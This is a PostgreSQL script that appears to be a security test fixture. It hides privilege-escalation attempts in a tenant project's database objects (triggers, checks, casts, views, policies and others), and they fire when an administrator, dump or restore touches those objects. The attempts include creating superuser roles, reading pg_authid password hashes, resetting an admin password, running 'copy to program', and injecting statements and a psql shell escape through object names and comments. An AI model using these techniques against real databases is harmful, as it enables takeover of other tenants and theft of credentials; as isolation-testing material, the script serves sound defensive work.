-- A project whose code attacks whoever runs it, by every kind of object that can hold code. Run by its owner.
--
-- Each attempt that works is written to the server's log as SUCCEEDED, and each time that code runs as REACHED.
set search_path = proj_one;

create function proj_one.attack(kind text) returns boolean language plpgsql as $$
declare
    attempt text;
begin
    raise warning 'REACHED % by % as % superuser %', kind, pg_catalog.current_setting('application_name'), current_user,
        (select rolsuper from pg_catalog.pg_roles where rolname = current_user);
    foreach attempt in array array[
        pg_catalog.format('create role made_by_%s superuser', kind),
        'select rolpassword from pg_catalog.pg_authid',
        'select body from proj_two_b.notes',
        'insert into proj_two_b.notes (body) values (''from proj_one'')',
        'create table proj_two_b.planted ()',
        'create table public.planted ()',
        'alter role supabase_admin password ''known''',
        'grant proj_two_b_owner to proj_one_owner',
        'set session authorization supabase_admin',
        'set role proj_two_b_owner',
        'copy (select 1) to program ''true''',
        'select pg_catalog.pg_read_file(''PG_VERSION'')',
        'alter system set log_statement = ''all''',
        -- Two steps: first whoever the session is, then everything again.
        'reset role; create role made_after_reset superuser',
        'reset session authorization; create role made_after_reset superuser'
    ] loop
        begin
            execute attempt;
            raise warning 'SUCCEEDED % by %: %', kind, current_user, attempt;
        exception when others then
            null;
        end;
    end loop;
    return true;
end $$;
create function proj_one.pure(kind text, value anyelement) returns anyelement language plpgsql immutable as $$
begin
    perform proj_one.attack(kind);
    return value;
end $$;

-- Run while rows are written.
create domain proj_one.word as text check (proj_one.attack('domain_check'));
create table proj_one.rows (
    id int primary key check (proj_one.attack('check')),
    word proj_one.word default proj_one.pure('default', 'x'::text),
    doubled int generated always as (proj_one.pure('generated', 1)) stored,
    body text
);
insert into proj_one.rows (id, body) select n, 'row ' || n from generate_series(1, 3) n;

-- Run while indexes and constraints are made.
create index by_expression on proj_one.rows (proj_one.pure('index_expression', body));
create index partial on proj_one.rows (id) where proj_one.pure('index_predicate', true);
create function proj_one.same(a int, b int) returns boolean language plpgsql immutable as $$
begin
    perform proj_one.attack('operator');
    return a = b;
end $$;
create operator proj_one.=== (leftarg = int, rightarg = int, function = proj_one.same, commutator = operator(proj_one.===));
alter table proj_one.rows add constraint by_operator exclude using btree (proj_one.pure('exclusion', id) with operator(pg_catalog.=));
alter table proj_one.rows add constraint late check (proj_one.pure('late_check', id) operator(proj_one.===) id) not valid;
create type proj_one.number as (value int);
create function proj_one.to_int(given proj_one.number) returns int language plpgsql immutable as $$
begin
    perform proj_one.attack('cast');
    return given.value;
end $$;
create cast (proj_one.number as int) with function proj_one.to_int as implicit;
create table proj_one.casts (n proj_one.number, id int generated always as (n::int) stored);
insert into proj_one.casts values (row(1));
alter table proj_one.rows add constraint unique_body unique (body);
create domain proj_one.reference as text check (proj_one.attack('foreign_key'));
create table proj_one.refers (body proj_one.reference references proj_one.rows (body) on delete cascade);
insert into proj_one.refers values ('row 1');
create table proj_one.parts (id int, body text) partition by range (proj_one.pure('partition_key', id));
create table proj_one.parts_low partition of proj_one.parts for values from (0) to (10);
create table proj_one.parts_rest partition of proj_one.parts default;
insert into proj_one.parts values (1, 'low'), (11, 'high');
create statistics proj_one.expressions on proj_one.pure('statistics', id), body from proj_one.rows;

-- Run by whoever reads or changes.
create function proj_one.transition(state bigint, value int) returns bigint language plpgsql as $$
begin
    perform proj_one.attack('aggregate');
    return state + value;
end $$;
create aggregate proj_one.total(int) (sfunc = proj_one.transition, stype = bigint, initcond = '0');
create view proj_one.looks as select id, proj_one.attack('view') as seen from proj_one.rows;
create table proj_one.plain_rows as select id from proj_one.rows;
create materialized view proj_one.frozen as
    select proj_one.total(id) as total, bool_and(proj_one.attack('materialized_view')) as seen from proj_one.plain_rows;
create rule redirect as on delete to proj_one.rows do also select proj_one.attack('rule');
create function proj_one.on_event() returns trigger language plpgsql as $$
begin
    perform proj_one.attack(tg_argv[0]);
    return new;
end $$;
create trigger each_row before insert or update or delete on proj_one.rows
    for each row execute function proj_one.on_event('row_trigger');
create trigger each_statement after insert or update or delete or truncate on proj_one.rows
    for each statement execute function proj_one.on_event('statement_trigger');
create trigger always_row before insert on proj_one.casts for each row execute function proj_one.on_event('always_trigger');
alter table proj_one.casts enable always trigger always_row;
create policy spy on proj_one.rows using (proj_one.attack('policy')) with check (proj_one.attack('policy'));
create policy closed on proj_one.rows as restrictive for select using (id > 0);
alter table proj_one.rows force row level security;
create collation proj_one.plain from "C";

-- The same in a further schema.
select data_plane_api.create_schema('beside');
create domain "proj_one$beside".word as text check (proj_one.attack('domain_check_beside'));
create table "proj_one$beside".rows (
    id int references proj_one.rows (id) check (proj_one.attack('check_beside')), word "proj_one$beside".word);
insert into "proj_one$beside".rows values (1, 'x');
create type "proj_one$beside".number as (value int);
create function "proj_one$beside".to_int(given "proj_one$beside".number) returns int language plpgsql immutable as $$
begin
    perform proj_one.attack('cast_beside');
    return given.value;
end $$;
create cast ("proj_one$beside".number as int) with function "proj_one$beside".to_int as implicit;
create table "proj_one$beside".casts (n "proj_one$beside".number, id int generated always as (n::int) stored);
insert into "proj_one$beside".casts values (row(1));
create index by_expression on "proj_one$beside".rows (proj_one.pure('index_beside', id));
create view "proj_one$beside".looks as select *, proj_one.attack('view') as seen from "proj_one$beside".rows;
create materialized view "proj_one$beside".frozen as
    select bool_and(proj_one.attack('materialized_view_beside')) as seen from proj_one.plain_rows;
create policy spy on "proj_one$beside".rows using (proj_one.attack('policy'));

-- Names and texts that a dump could take for statements.
create table proj_one."x
; create role made_by_name superuser; --" (id int);
comment on table proj_one."x
; create role made_by_name superuser; --" is E'x\n\\! touch made_by_comment\n; create role made_by_comment superuser; --';
create function proj_one."f
create role made_by_function_name superuser;"() returns int language sql as 'select 1';

-- Knows its restorer.
create function proj_one.spite(id int) returns boolean language plpgsql as $$
begin
    if pg_catalog.current_setting('application_name') like 'pg_restore%' then
        raise exception E'nobody restores %\nCREATE ROLE made_by_message SUPERUSER;', id;
    end if;
    return true;
end $$;
create table proj_one.spiteful (id int check (proj_one.spite(id)));
insert into proj_one.spiteful values (1);
